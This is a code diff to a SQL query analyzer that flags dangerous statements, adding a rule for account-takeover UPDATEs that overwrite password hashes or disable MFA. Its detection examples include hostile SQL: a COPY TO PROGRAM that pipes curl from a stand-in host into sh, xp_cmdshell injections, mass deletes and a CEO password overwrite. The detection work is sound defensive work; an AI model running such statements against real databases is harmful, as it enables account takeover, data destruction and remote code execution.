@@ -221,6 +221,27 @@ function copiedOut(ctx: QueryContext): Finding | undefined {
   return undefined;
 }
 
+/** Columns that hold a login secret: writing one for another account takes the account over. */
+const SECRET_COLUMNS = new Set(['password', 'passwd', 'password_hash', 'passwordhash', 'hashed_password', 'encrypted_password', 'pass_hash', 'pw_hash', 'pwd', 'mfa_secret', 'otp_secret', 'totp_secret', 'two_factor_secret', 'mfa_enabled', 'otp_enabled', 'two_factor_enabled', 'api_key', 'api_token', 'recovery_email', 'recovery_phone']);
+/** An UPDATE that writes a login secret (or switches a second factor off) for the rows it picks. */
+function secretOverwritten(ctx: QueryContext): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const table = targetOf(st, UPDATE_SET);
+    if (table === undefined) continue;
+    const { pairs, whereWords, hasWhere } = setPairs(st);
+    for (const [col, value] of pairs) {
+      if (!SECRET_COLUMNS.has(col)) continue;
+      // a literal hash or address typed into the statement hands someone the login (resetting to NULL forces a
+      // reset; a bind parameter is the application's own password change); so does turning MFA off
+      const off = col.endsWith('_enabled') ? value === 'false' || value === '0' : value.startsWith("'");
+      if (!off) continue;
+      const who = hasWhere ? whereWords.filter((w) => w !== 'and' && w !== 'or').slice(0, 3).join(' ') : 'every row';
+      return { detail: `${col} on ${table} written (${who})`, score: hasWhere ? envScore(ctx.env, 8, 7, 3) : 9 };
+    }
+  }
+  return undefined;
+}
+
 /** Columns that hold a customer's money: written by the ledger, never by hand. */
 const BALANCE_COLUMNS = new Set(['balance', 'available_balance', 'account_balance', 'wallet_balance', 'credit', 'credits', 'credit_limit', 'store_credit', 'points_balance']);
 /**
@@ -456,7 +477,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       keywords: ['delete'],
       detect: (ctx) => unfiltered(ctx, DELETE_FROM, 'DELETE', [9, 8, 5]),
       examples: {
-        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'", "DELETE FROM orders WHERE created_at > '1900-01-01'", 'DELETE FROM invoices WHERE id > 0'],
+        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'", "DELETE FROM orders WHERE created_at > '1900-01-01'", 'DELETE FROM invoices WHERE id > 0', 'DELETE FROM customers WHERE id IS NOT NULL'],
         pass: ['DELETE FROM sessions WHERE expires_at < now()', 'SELECT id FROM users WHERE deleted_at IS NULL', 'DELETE FROM carts WHERE 1=1 AND user_id = $1'],
       },
     },
@@ -587,6 +608,18 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       examples: {
         flag: ["EXEC xp_cmdshell 'whoami'", "COPY (SELECT '') TO PROGRAM 'curl http://x.sh | sh'", "'; exec master..xp_cmdshell 'net user'--"],
         pass: ['SELECT * FROM programs WHERE id = 3', "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'select a + b'"],
+      },
+    },
+    {
+      id: 'Q25',
+      name: 'Login secret or second factor of an account overwritten through SQL',
+      primitive: 'ESCALATION',
+      score: 7,
+      keywords: ['password', 'passwd', 'pwd', 'secret', 'mfa_enabled', 'otp_enabled', 'two_factor', 'api_key', 'api_token', 'recovery_'],
+      detect: secretOverwritten,
+      examples: {
+        flag: ["UPDATE users SET password_hash = '$2b$12$KIXxq9' WHERE email = 'ceo@acme.com'", 'UPDATE users SET mfa_enabled = false WHERE id = 7'],
+        pass: ["UPDATE users SET password_hash = NULL WHERE id = 7", 'UPDATE users SET password_hash = $1, password_changed_at = now() WHERE id = $2', 'SELECT password_hash FROM users WHERE id = $1', 'UPDATE users SET mfa_enabled = true WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42"],
       },
     },
     {
